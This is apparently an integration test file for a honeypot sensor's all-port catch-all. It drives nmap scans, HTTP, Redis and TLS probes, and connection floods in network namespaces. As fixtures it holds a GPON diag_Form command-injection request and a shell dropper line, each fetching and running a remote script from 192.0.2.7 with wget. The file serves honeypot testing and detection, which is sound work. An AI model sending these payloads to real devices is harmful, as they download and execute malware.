//! The all-port catch-all (issue 7), end to end in network namespaces:
//! an attacker namespace and a sensor namespace joined by a veth pair, the
//! sensor's firewall diverting every port but the excluded ones to the
//! catch-all, and real clients (nmap, curl, openssl, redis-cli, socat) on
//! the attacker's side.
//!
//! - full-range SYN scans and UDP top-50 scans, REDIRECT and TPROXY, IPv4
//!   and IPv6: the recorded original destination ports are exactly the
//!   ports nmap probed minus the excluded ones, and excluded ports are
//!   untouched;
//! - detection and hand-off: an HTTP GET to a random high port reaches the
//!   HTTP emulator, `redis-cli` on a random port the Redis emulator;
//! - exploit payloads (a GPON diag_Form POST, a wget dropper line) are in
//!   the payload store under the sha256 of the bytes sent;
//! - floods: 20,000 connections that never send a byte and 100,000 short
//!   connections leave the sensor within its memory cap and answering,
//!   with exactly one connect and one close event per connection.

mod common;

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{Netns, Sensor, of_kind};
use serde_json::Value;

const SENSOR4: &str = "10.201.0.1";
const ATTACKER4: &str = "10.201.0.2";
const SENSOR6: &str = "fd00:201::1";
const ATTACKER6: &str = "fd00:201::2";
const CATCHALL_PORT: u16 = 65530;
const LOG_GROUP: u16 = 6467;
const MARK: u32 = 0x6d67;
const TABLE: u32 = 6467;

#[derive(Clone, Copy, PartialEq, Debug)]
enum Mode {
    Redirect,
    Tproxy,
}

impl Mode {
    fn name(self) -> &'static str {
        match self {
            Mode::Redirect => "redirect",
            Mode::Tproxy => "tproxy",
        }
    }
}

/// The ports `mirage firewall` left alone.
struct Excluded {
    tcp: BTreeSet<u16>,
    udp: BTreeSet<u16>,
}

/// An attacker and a sensor namespace on one veth link, IPv4 and IPv6.
struct Lab {
    att: Netns,
    sen: Netns,
}

impl Lab {
    fn new() -> Lab {
        let sen = Netns::named("casen");
        let att = Netns::named("caatt");
        sen.ip(&[
            "link", "add", "eth0", "type", "veth", "peer", "name", "eth0", "netns", &att.0,
        ]);
        for (ns, v4, v6) in [(&sen, SENSOR4, SENSOR6), (&att, ATTACKER4, ATTACKER6)] {
            ns.ip(&["addr", "add", &format!("{v4}/24"), "dev", "eth0"]);
            // nodad: the address is usable at once, not after duplicate detection.
            ns.ip(&["addr", "add", &format!("{v6}/64"), "dev", "eth0", "nodad"]);
            ns.ip(&["link", "set", "eth0", "up"]);
        }
        Lab { att, sen }
    }

    /// `mirage firewall` in the sensor namespace, from the same
    /// `[services.catchall]` the sensor runs with (plus `firewall_extra`,
    /// e.g. services turned off so their ports are diverted too). Returns
    /// the TCP and UDP ports it excluded, as its dry run prints them.
    fn divert(&self, mode: Mode, exclude: &[u16], firewall_extra: &str) -> Excluded {
        let list = exclude
            .iter()
            .map(|p| p.to_string())
            .collect::<Vec<_>>()
            .join(", ");
        let config = format!(
            "[services.catchall]\nenabled = true\nmode = \"{}\"\nexclude_ports = [{list}]\n\
             probe_log_group = {LOG_GROUP}\ntproxy_mark = {MARK}\ntproxy_table = {TABLE}\n{firewall_extra}",
            mode.name()
        );
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("firewall.toml");
        std::fs::write(&file, &config).unwrap();
        let bin = env!("CARGO_BIN_EXE_mirage");
        let f = file.to_str().unwrap();
        let plan = run_in(&self.sen, bin, &["firewall", "--config", f, "--dry-run"]);
        run_in(&self.sen, bin, &["firewall", "--config", f]);
        let set = |name: &str| -> BTreeSet<u16> {
            let at = plan
                .find(&format!("set {name} {{"))
                .expect("set in the plan");
            let body = &plan[at..at + plan[at..].find('}').unwrap()];
            match body.split_once("elements = {") {
                Some((_, list)) => list.split(',').map(|p| p.trim().parse().unwrap()).collect(),
                None => BTreeSet::new(),
            }
        };
        let ex = Excluded {
            tcp: set("exclude_tcp"),
            udp: set("exclude_udp"),
        };
        for p in exclude {
            assert!(ex.tcp.contains(p) && ex.udp.contains(p), "{p}: {plan}");
        }
        assert!(plan.contains(&format!("log group {LOG_GROUP}")), "{plan}");
        ex
    }

    /// A sensor in the sensor namespace running the catch-all (v4 and v6)
    /// and `extra` services, with `config` (TOML).
    fn sensor(&self, mode: Mode, config: &str, extra: &[&str]) -> Sensor {
        let config = format!(
            "[services.catchall]\nmode = \"{}\"\nprobe_log_group = {LOG_GROUP}\n{config}",
            mode.name()
        );
        let mut args = vec![
            "--service".to_owned(),
            format!("catchall=0.0.0.0:{CATCHALL_PORT}"),
            "--service".to_owned(),
            format!("catchall=[::]:{CATCHALL_PORT}"),
        ];
        for e in extra {
            args.push("--service".into());
            args.push((*e).to_owned());
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        Sensor::start_in_netns(
            &self.sen,
            &config,
            &args,
            tempfile::tempdir().unwrap(),
            format!("0.0.0.0:{CATCHALL_PORT}").parse().unwrap(),
        )
    }
}

/// Run `program args…` in `ns`; stdout as text (must succeed).
fn run_in(ns: &Netns, program: &str, args: &[&str]) -> String {
    let path = if program.contains('/') {
        std::path::PathBuf::from(program)
    } else {
        mirage_testkit::require_tool(program)
    };
    let out = ns.cmd(&path).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "{program} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The ports of nmap's `<scaninfo services="1-3,7,…">`.
fn scanned_ports(xml: &str) -> BTreeSet<u16> {
    let start = xml.find(" services=\"").expect("scaninfo in nmap XML") + 11;
    let list = &xml[start..start + xml[start..].find('"').unwrap()];
    let mut out = BTreeSet::new();
    for part in list.split(',') {
        match part.split_once('-') {
            Some((a, b)) => out.extend(a.parse::<u16>().unwrap()..=b.parse().unwrap()),
            None => {
                out.insert(part.parse().unwrap());
            }
        }
    }
    out
}

/// Ports nmap listed with state `state`, and the count of its
/// `<extraports state=…>` groups in that state.
fn nmap_state(xml: &str, state: &str) -> (BTreeSet<u16>, usize) {
    let mut listed = BTreeSet::new();
    for chunk in xml.split("<port ").skip(1) {
        let id = chunk.split("portid=\"").nth(1).unwrap();
        let id: u16 = id[..id.find('"').unwrap()].parse().unwrap();
        if chunk.contains(&format!("<state state=\"{state}\"")) {
            listed.insert(id);
        }
    }
    let mut extra = 0;
    for chunk in xml.split("<extraports ").skip(1) {
        if chunk.starts_with(&format!("state=\"{state}\"")) {
            let c = chunk.split("count=\"").nth(1).unwrap();
            extra += c[..c.find('"').unwrap()].parse::<usize>().unwrap();
        }
    }
    (listed, extra)
}

fn dst_ports<'a>(events: impl Iterator<Item = &'a Value>, dst: &str) -> BTreeSet<u16> {
    events
        .filter(|e| e["dst_ip"] == dst)
        .map(|e| e["dst_port"].as_u64().unwrap() as u16)
        .collect()
}

/// nmap SYN-scans every port and UDP-scans the top 50 of `target`; the
/// events name exactly the probed ports minus the excluded ones.
fn scan_and_check(lab: &Lab, sensor: &Sensor, target: &str, ex: &Excluded) {
    let v6 = target.contains(':');
    let mut tcp_args = vec!["-sS", "-p", "1-65535", "-n", "-Pn", "-T5"];
    let mut udp_args = vec!["-sU", "--top-ports", "50", "-n", "-Pn", "-T5"];
    if v6 {
        tcp_args.push("-6");
        udp_args.push("-6");
    }
    tcp_args.extend(["--max-retries", "2", "-oX", "-", target]);
    udp_args.extend(["--max-retries", "1", "-oX", "-", target]);
    let tcp_xml = run_in(&lab.att, "nmap", &tcp_args);
    let udp_xml = run_in(&lab.att, "nmap", &udp_args);
    let tcp_probed = scanned_ports(&tcp_xml);
    assert_eq!(tcp_probed.len(), 65535);
    let tcp_expected: BTreeSet<u16> = tcp_probed.difference(&ex.tcp).copied().collect();
    let udp_probed = scanned_ports(&udp_xml);
    assert_eq!(udp_probed.len(), 50, "{udp_xml}");
    let udp_expected: BTreeSet<u16> = udp_probed.difference(&ex.udp).copied().collect();
    assert!(
        udp_probed.len() > udp_expected.len(),
        "the test must exclude some UDP port nmap probes"
    );

    let events = common::wait_events(sensor, Duration::from_secs(60), |ev| {
        let probes = dst_ports(of_kind(ev, "probe").into_iter(), target);
        let udp = dst_ports(
            ev.iter()
                .filter(|e| e["transport"] == "udp" && e["kind"] == "payload"),
            target,
        );
        probes.len() >= tcp_expected.len() && udp.len() >= udp_expected.len()
    });
    let probes = dst_ports(of_kind(&events, "probe").into_iter(), target);
    assert_eq!(
        probes.len(),
        tcp_expected.len(),
        "SYN probes recorded for {target}"
    );
    assert!(probes == tcp_expected, "probe ports differ from nmap's");
    let udp: BTreeSet<u16> = dst_ports(
        events
            .iter()
            .filter(|e| e["transport"] == "udp" && e["kind"] == "payload"),
        target,
    );
    assert_eq!(udp, udp_expected, "UDP flows recorded for {target}");
    // Excluded ports: no event of any kind, and nmap found them closed
    // (nothing listens there) while every diverted port answered.
    let touched: Vec<&Value> = events
        .iter()
        .filter(|e| e["dst_ip"] == target)
        .filter(|e| {
            let port = e["dst_port"].as_u64().unwrap_or(0) as u16;
            let excluded = if e["transport"] == "udp" {
                &ex.udp
            } else {
                &ex.tcp
            };
            excluded.contains(&port)
        })
        .collect();
    assert!(touched.is_empty(), "excluded ports recorded: {touched:?}");
    // nmap's own view agrees: diverted ports answer (at -T5 nmap misses
    // the odd reply, so it may call a few of them filtered), excluded ones
    // are closed and never open.
    let (open, open_extra) = nmap_state(&tcp_xml, "open");
    assert!(open.is_disjoint(&ex.tcp));
    assert!(
        open.len() + open_extra >= tcp_expected.len() * 99 / 100,
        "nmap found only {} open",
        open.len() + open_extra
    );
    let (closed, closed_extra) = nmap_state(&tcp_xml, "closed");
    assert_eq!(closed_extra, 0);
    assert_eq!(closed, ex.tcp.intersection(&tcp_probed).copied().collect());
    let (udp_closed, _) = nmap_state(&udp_xml, "closed");
    assert!(udp_closed.is_subset(&ex.udp), "{udp_closed:?}");
    // Every probe names the attacker as its source.
    let attacker = if v6 { ATTACKER6 } else { ATTACKER4 };
    assert!(
        of_kind(&events, "probe")
            .iter()
            .filter(|e| e["dst_ip"] == target)
            .all(|e| e["src_ip"] == attacker && e["service"] == "catchall")
    );
}

fn full_scans(mode: Mode) {
    let lab = Lab::new();
    // 22 and 3389 (TCP), 53 and 161 (in nmap's UDP top 50) stay out.
    // The sensor's default services' ports are excluded by the firewall
    // too (they would be served directly); this sensor runs only the
    // catch-all, so nmap finds them closed.
    let ex = lab.divert(mode, &[22, 53, 161, 3389], "");
    let sensor = lab.sensor(mode, "", &[]);
    scan_and_check(&lab, &sensor, SENSOR4, &ex);
    scan_and_check(&lab, &sensor, SENSOR6, &ex);
}

#[test]
fn redirect_mode_full_scans_v4_v6() {
    full_scans(Mode::Redirect);
}

#[test]
fn tproxy_mode_full_scans_v4_v6() {
    full_scans(Mode::Tproxy);
}

fn sha256_hex(data: &[u8]) -> String {
    use std::io::Write;
    let mut child = Command::new("sha256sum")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(data).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout)[..64].to_owned()
}

/// Send `data` from the attacker to `addr` with socat; return the reply.
fn socat_send(lab: &Lab, addr: &str, data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let socat = mirage_testkit::require_tool("socat");
    let mut child = lab
        .att
        .cmd(&socat)
        .args(["-t", "2", "-", addr])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(data).unwrap();
    child.wait_with_output().unwrap().stdout
}

/// Events of one session, in order.
fn session_of<'a>(events: &'a [Value], session: &Value) -> Vec<&'a Value> {
    events.iter().filter(|e| &e["session"] == session).collect()
}

/// A random port in 40000-56999 (above every default service port and
/// fallback, which the firewall excludes).
fn random_port() -> u16 {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    40_000 + (nanos % 17_000) as u16
}

#[test]
fn detection_hands_off_and_payloads_are_stored_by_hash() {
    let lab = Lab::new();
    // https off in the firewall's view, so 8443 is diverted too.
    lab.divert(Mode::Redirect, &[22], "[services.https]\nenabled = false\n");
    // Small inline part so that the exploit payloads are stored whole.
    let sensor = lab.sensor(
        Mode::Redirect,
        "peek_ms = 500\ninline_bytes = 64\n",
        &["http=127.0.0.1:8080", "redis=127.0.0.1:16379"],
    );
    let http_port = random_port();
    let redis_port = http_port + 1111;

    // A plain HTTP GET to a random high port reaches the HTTP emulator.
    let out = run_in(
        &lab.att,
        "curl",
        &[
            "-s",
            "-i",
            &format!("http://{SENSOR4}:{http_port}/catchall-probe"),
        ],
    );
    assert!(out.starts_with("HTTP/1.1 "), "{out}");
    // redis-cli on a random port reaches the Redis emulator.
    let pong = run_in(
        &lab.att,
        "redis-cli",
        &["-h", SENSOR4, "-p", &redis_port.to_string(), "ping"],
    );
    assert_eq!(pong.trim(), "PONG");

    // A GPON diag_Form exploit (as Mozi sends it) and a dropper line to
    // a port nothing emulates, over IPv6.
    let gpon = format!(
        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: {SENSOR4}:{http_port}\r\n\
         Connection: close\r\nUser-Agent: Hello, World\r\nContent-Length: 118\r\n\r\n\
         XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;\
         wget+http://192.0.2.7:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0"
    );
    let reply = socat_send(
        &lab,
        &format!("TCP:{SENSOR4}:{}", http_port + 1),
        gpon.as_bytes(),
    );
    assert!(reply.starts_with(b"HTTP/1.1 "));
    let dropper = b"cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh\r\n";
    let dropper_port = http_port + 2222;
    socat_send(&lab, &format!("TCP6:[{SENSOR6}]:{dropper_port}"), dropper);

    // TLS on a port nothing serves: curl -k to 8443, and openssl s_client
    // with an SNI to a random port; both decrypted and handed to HTTP.
    let out = run_in(
        &lab.att,
        "curl",
        &["-s", "-k", "-i", &format!("https://{SENSOR4}:8443/x")],
    );
    assert!(out.starts_with("HTTP/1.1 "), "{out}");
    let tls_port = http_port + 3333;
    let openssl = mirage_testkit::require_tool("openssl");
    let mut child = lab
        .att
        .cmd(&openssl)
        .args([
            "s_client",
            "-quiet",
            "-servername",
            "example.test",
            "-connect",
        ])
        .arg(format!("{SENSOR4}:{tls_port}"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin
            .write_all(b"GET /over-tls HTTP/1.1\r\nHost: example.test\r\nConnection: close\r\n\r\n")
            .unwrap();
        // Keep stdin open until the answer is in: s_client quits at EOF.
        let out = child.wait_with_output().unwrap();
        drop(stdin);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.starts_with("HTTP/1.1 "), "{text}");
    }

    let events = common::wait_events(&sensor, Duration::from_secs(60), |ev| {
        of_kind(ev, "session.close")
            .iter()
            .filter(|e| e["src_ip"] == ATTACKER4 || e["src_ip"] == ATTACKER6)
            .count()
            >= 6
    });

    // TLS: the hello fingerprinted (SNI, JA3, JA4), the request decrypted
    // and recorded by the HTTP emulator with the original port.
    for (port, sni, line) in [
        (8443u16, None, "GET /x HTTP/1.1"),
        (tls_port, Some("example.test"), "GET /over-tls HTTP/1.1"),
    ] {
        let hello = events
            .iter()
            .find(|e| e["command"] == "tls.client_hello" && e["dst_port"] == port)
            .unwrap_or_else(|| panic!("no ClientHello event on {port}"));
        let tls = &hello["details"]["tls"];
        assert_eq!(tls["handshake"], "ok", "{hello}");
        assert_eq!(tls["ja3"].as_str().unwrap().len(), 32, "{hello}");
        assert!(tls["ja4"].as_str().unwrap().starts_with("t1"), "{hello}");
        if let Some(sni) = sni {
            assert_eq!(tls["sni"], sni);
        }
        let s = session_of(&events, &hello["session"]);
        let detect = s.iter().find(|e| e["kind"] == "detect").unwrap();
        assert_eq!(detect["protocol"], "tls");
        let req = s
            .iter()
            .find(|e| e["kind"] == "command" && e["raw"] == line)
            .unwrap_or_else(|| panic!("no '{line}' in {s:?}"));
        assert_eq!(req["service"], "http");
        assert_eq!(req["dst_port"], port);
    }

    // HTTP: detected by bytes, handed off, the request line recorded by
    // the HTTP emulator with the original destination port.
    let get = events
        .iter()
        .find(|e| e["kind"] == "command" && e["raw"] == "GET /catchall-probe HTTP/1.1")
        .expect("the GET is recorded");
    assert_eq!(get["service"], "http");
    assert_eq!(get["dst_port"], http_port);
    assert_eq!(get["dst_ip"], SENSOR4);
    let s = session_of(&events, &get["session"]);
    assert_eq!(s[0]["kind"], "session.connect");
    assert_eq!(s[0]["service"], "catchall");
    assert_eq!(s[1]["kind"], "detect");
    assert_eq!(s[1]["protocol"], "http");
    assert_eq!(s[1]["handoff"], "http");
    assert!(s.iter().all(|e| e["dst_port"] == http_port));
    assert_eq!(s.last().unwrap()["kind"], "session.close");
    assert_eq!(s.last().unwrap()["service"], "http");

    // Redis through the catch-all.
    let ping = events
        .iter()
        .find(|e| e["kind"] == "command" && e["service"] == "redis" && e["command"] == "ping")
        .expect("PING recorded by the Redis emulator");
    assert_eq!(ping["dst_port"], redis_port);

    // Stored payloads, found by the sha256 of exactly the bytes sent.
    let dir = sensor.event_dir();
    for (data, port, service) in [
        (gpon.as_bytes(), http_port + 1, "http"),
        (&dropper[..], dropper_port, "catchall"),
    ] {
        let sha = sha256_hex(data);
        let p = events
            .iter()
            .find(|e| e["kind"] == "payload" && e["sha256"] == sha)
            .unwrap_or_else(|| panic!("no payload event with sha256 {sha}"));
        assert_eq!(p["dst_port"], port);
        assert_eq!(p["service"], service);
        assert_eq!(p["len"], data.len());
        assert_eq!(p["truncated"], true);
        assert_eq!(p["stored"], format!("payloads/{sha}"));
        assert_eq!(
            std::fs::read(dir.join("payloads").join(&sha)).unwrap(),
            data
        );
    }
    assert!(
        events
            .iter()
            .any(|e| e["kind"] == "attack" && e["technique"] == "http.gpon_rce"),
        "the HTTP emulator tags the GPON exploit"
    );
}

/// Open `count` idle connections from inside `ns`; returns the holder
/// (drop its stdin to close them) once all are open.
fn hold_idle(ns: &Netns, to: SocketAddr, count: u64) -> std::process::Child {
    use std::io::BufRead;
    let mut child = ns
        .cmd(env!("CARGO_BIN_EXE_mirage"))
        .args(["x-connflood", "idle", &to.to_string(), &count.to_string()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.as_mut().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line.trim(), format!("ready {count} failed 0"));
    child
}

/// Send PING to the catch-all's own port from inside `ns` (detected as
/// RESP, handed to the Redis emulator); true on PONG.
fn pong_through(ns: &Netns) -> bool {
    let cli = mirage_testkit::require_tool("redis-cli");
    let out = ns
        .cmd(cli)
        .args(["-p", &CATCHALL_PORT.to_string(), "ping"])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim() == "PONG"
}

fn count_kind(events: &[Value], kind: &str) -> usize {
    events
        .iter()
        .filter(|e| e["kind"] == kind && e["dst_port"] == CATCHALL_PORT)
        .count()
}

/// RSS cap (MiB) for the floods: 20,000 sessions at the documented 2 KiB
/// each, plus the sensor's base and the event queue.
const FLOOD_RSS_CAP_MIB: u64 = 160;

#[test]
fn idle_and_short_floods_are_all_recorded_within_the_memory_cap() {
    // A private namespace: loopback only, no netfilter, so conntrack stays
    // off and the kernel does not drop SYNs under the flood.
    let ns = Netns::named("caflood");
    let addr: SocketAddr = format!("127.0.0.1:{CATCHALL_PORT}").parse().unwrap();
    // The machine's hard open-file limit is 20,000 per process, so the
    // sensor can hold 19,900 sessions; the other 100 idle connections wait,
    // established, in the kernel's accept queue and are served as soon as
    // slots free up (and must then be recorded too).
    let config = "[limits]\nmax_connections = 19900\nmax_connections_per_ip = 20000\n\
                  handshake_timeout_secs = 600\n\
                  [services.catchall]\nprobe_log_group = 0\npeek_ms = 200\ndata_timeout_secs = 600\n";
    let mut sensor = Sensor::start_in_netns(
        &ns,
        config,
        &[
            "--service",
            &format!("catchall={addr}"),
            "--service",
            "redis=127.0.0.1:16379",
        ],
        tempfile::tempdir().unwrap(),
        addr,
    );
    std::thread::sleep(Duration::from_millis(300));
    let (rss_base, _) = sensor.rss_kib();

    // 20,000 connections that never send a byte, in two holders (each
    // process may have 20,000 descriptors). Memory is measured after each
    // half: the second half's growth is the steady cost of an idle session
    // (the first also pays for one-time growth: event queue, arenas).
    let a = hold_idle(&ns, addr, 10_000);
    let ev = common::wait_events(&sensor, Duration::from_secs(60), |ev| {
        count_kind(ev, "session.connect") >= 10_000
    });
    assert_eq!(count_kind(&ev, "session.connect"), 10_000);
    std::thread::sleep(Duration::from_secs(1));
    let (rss_10k, _) = sensor.rss_kib();
    let b = hold_idle(&ns, addr, 10_000);
    let ev = common::wait_events(&sensor, Duration::from_secs(60), |ev| {
        count_kind(ev, "session.connect") >= 19_900
    });
    assert_eq!(count_kind(&ev, "session.connect"), 19_900);
    std::thread::sleep(Duration::from_secs(1));
    let (rss_idle, _) = sensor.rss_kib();
    let first = (rss_10k.saturating_sub(rss_base)) * 1024 / 10_000;
    let second = (rss_idle.saturating_sub(rss_10k)) * 1024 / 9_900;
    eprintln!(
        "idle flood: rss {rss_base} KiB, {rss_10k} KiB at 10,000 idle sessions ({first} bytes each), \
         {rss_idle} KiB at 19,900 ({second} bytes each for the second half)"
    );
    assert!(
        rss_idle < FLOOD_RSS_CAP_MIB * 1024,
        "rss {rss_idle} KiB over the cap"
    );
    assert!(second <= 2048, "{second} bytes per idle session");
    // The first 10,000 pay the one-time growth too, still under 2.5 KiB
    // each (a read buffer reserved for silent clients made it 3-6 KiB).
    assert!(first <= 2560, "{first} bytes per idle session (first half)");
    // Still answering: a Redis PING through the catch-all... once a slot
    // is free (all 19,900 are taken by the idle holders), so free one
    // holder first, then check within seconds.
    let mut a = a;
    drop(a.stdin.take());
    a.wait().unwrap();
    let start = Instant::now();
    assert!(pong_through(&ns), "no PONG through the catch-all");
    assert!(start.elapsed() < Duration::from_secs(5));
    let mut b = b;
    drop(b.stdin.take());
    b.wait().unwrap();

    // 100,000 short connections (connect, one line, close) as fast as the
    // generator can, spread over source addresses so ports do not run out.
    let mut sources = Vec::new();
    for i in 2..=9 {
        sources.push("--source".to_owned());
        sources.push(format!("127.0.0.{i}"));
    }
    let out = ns
        .cmd(env!("CARGO_BIN_EXE_mirage"))
        .args(["x-connflood", "short", &addr.to_string(), "100000"])
        .args(["--concurrency", "200", "--line", "GET /flood HTTP/1.0"])
        .args(&sources)
        .output()
        .unwrap();
    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
    eprintln!("short flood: {summary}");
    assert_eq!(summary["ok"], 100_000, "{summary}");
    assert!(pong_through(&ns), "no PONG after the flood");

    // 20,000 idle + 100,000 short + 2 PINGs: every one connected and closed.
    let total = 20_000 + 100_000 + 2;
    let ev = common::wait_events(&sensor, Duration::from_secs(60), |ev| {
        count_kind(ev, "session.close") >= total
    });
    let (_, peak) = sensor.rss_kib();
    eprintln!("peak rss {peak} KiB");
    assert!(peak < FLOOD_RSS_CAP_MIB * 1024, "peak {peak} KiB");
    assert_eq!(count_kind(&ev, "session.connect"), total);
    assert_eq!(count_kind(&ev, "session.close"), total);
    // Each short connection's line is captured: HTTP-looking, handed to
    // nothing (http is not enabled), so a raw payload per connection.
    let lines = ev
        .iter()
        .filter(|e| e["kind"] == "payload" && e["data_b64"] == "R0VUIC9mbG9vZCBIVFRQLzEuMAo=")
        .count();
    assert_eq!(lines, 100_000);
    let stderr = sensor.stop();
    assert!(!stderr.contains("ERROR"), "{stderr}");
}
